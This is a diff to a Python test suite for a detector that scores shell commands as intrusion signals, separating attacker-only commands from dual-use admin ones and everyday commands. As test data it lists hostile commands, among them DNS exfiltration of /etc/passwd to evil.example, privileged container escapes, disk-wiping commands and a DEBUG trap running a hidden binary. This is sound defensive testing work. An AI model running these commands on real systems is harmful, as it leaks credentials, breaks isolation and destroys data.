@@ -27,6 +27,7 @@ def traits(line: str) -> set[tuple[str, bool]]:
         ("xxd -p /etc/passwd | while read l; do dig $l.evil.example; done", "exfiltrate-dns"),
         ("docker run -v /:/host --privileged alpine chroot /host sh", "container-escape"),
         ("nsenter --target 1 --mount sh", "container-escape"),
+        ("trap /tmp/.x/agent DEBUG", "trap-run"),
         ("mkfs.ext4 -F /dev/sda", "destroy-disk"),
         ("wipefs -a /dev/sd*", "destroy-disk"),
         ("shred -n1 /dev/sda /dev/sdb", "destroy-disk"),
@@ -62,6 +63,8 @@ def test_an_intruders_command_is_strong(line: str, name: str) -> None:
     [
         ("dd if=/dev/zero of=/dev/sdb bs=1M", "wipe-disk"),
         ("mkfs.xfs /dev/vdb1", "wipe-disk"),
+        ("samba-tool user create bob", "domain-account"),
+        ("systemctl mask sleep.target suspend.target", "no-sleep"),
         ("blkdiscard -f /dev/sdb", "wipe-disk"),
         ("iptables -t nat -A PREROUTING -p tcp --dport 80 -j REDIRECT --to-port 8080", "redirect"),
         ("nft add rule ip nat prerouting tcp dport 80 redirect to :8080", "redirect"),
@@ -85,7 +88,7 @@ def test_what_administrators_do_as_well_is_weak(line: str, name: str) -> None:
         "gdb ./server core", "docker run --rm -v /srv/data:/data alpine ls", "dig example.org", "for h in a b; do host $h; done",
         "mysql -e 'show databases'", "modprobe br_netfilter", "systemctl restart firewalld", "iptables -L -n", "find . -name '*.py'",
         "curl http://169.254.169.254/latest/meta-data/instance-id", "netstat -tlnp", "docker exec -it web sh",
-        "wipefs /dev/sda", "mkfs.ext4 disk.img", "man mkfs.ext4", "mkswap /dev/vdb2", "dd if=debian.iso of=/dev/sdc", "echo hi > /dev/null",
+        "wipefs /dev/sda", "mkfs.ext4 disk.img", "man mkfs.ext4", "mkswap /dev/vdb2", "dd if=debian.iso of=/dev/sdc", "echo hi > /dev/null", "trap 'rm -f /tmp/lock' EXIT", "trap - INT",
         "ls -l /proc/self/fd/", "/proc/self/fd/6 init", "grep memfd_create /usr/include/sys/mman.h", "strace -e trace=memfd_create ls",
         "/usr/sbin/iptables --wait -t nat -A DOCKER -p tcp -d 0/0 --dport 8080 -j DNAT --to-destination 172.17.0.2:80 ! -i docker0",
         "iptables -t nat -A KUBE-SEP-ABC -p tcp -m tcp -j DNAT --to-destination 10.244.0.5:53", "iptables -A INPUT -p tcp --dport 22 -j ACCEPT",
@@ -107,5 +110,8 @@ def test_everyday_commands_have_none_of_them(line: str) -> None:
         "redirect",
         "redirect-outside",
         "port-reuse",
+        "trap-run",
+        "domain-account",
+        "no-sleep",
     }
     assert not {n for n, _ in traits(line)} & new
